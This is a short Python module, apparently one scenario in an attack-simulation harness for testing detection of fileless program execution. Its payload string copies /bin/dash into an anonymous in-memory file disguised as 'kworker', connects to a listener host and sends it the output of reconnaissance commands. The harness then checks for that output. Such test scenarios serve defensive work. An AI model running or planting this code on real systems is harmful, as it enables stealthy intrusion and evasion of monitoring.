# SPDX-License-Identifier: Apache-2.0
"""A program that was never a file: fetched, written to memory and executed from there by the service's own process."""
import time

from attack import Listener

KIND = "program from memory"
QUIET = False
SOURCE = """
import os, socket
if os.fork() == 0:
    fd = os.memfd_create("kworker")
    os.write(fd, open("/bin/dash", "rb").read())
    s = socket.create_connection(("{me}", {port}))
    os.dup2(s.fileno(), 1)
    os.execve(fd, ["kworker", "-c", "id; cat /proc/net/tcp; ls -la /proc/self/exe"], dict(os.environ))
"""
SERVICES = {"python": SOURCE}


def attack(t):
    listener = Listener()
    t.code(t.how.format(me=t.me, port=listener.port))
    time.sleep(3)
    return listener.got.decode()[:60] if b"uid=" in listener.got else ""
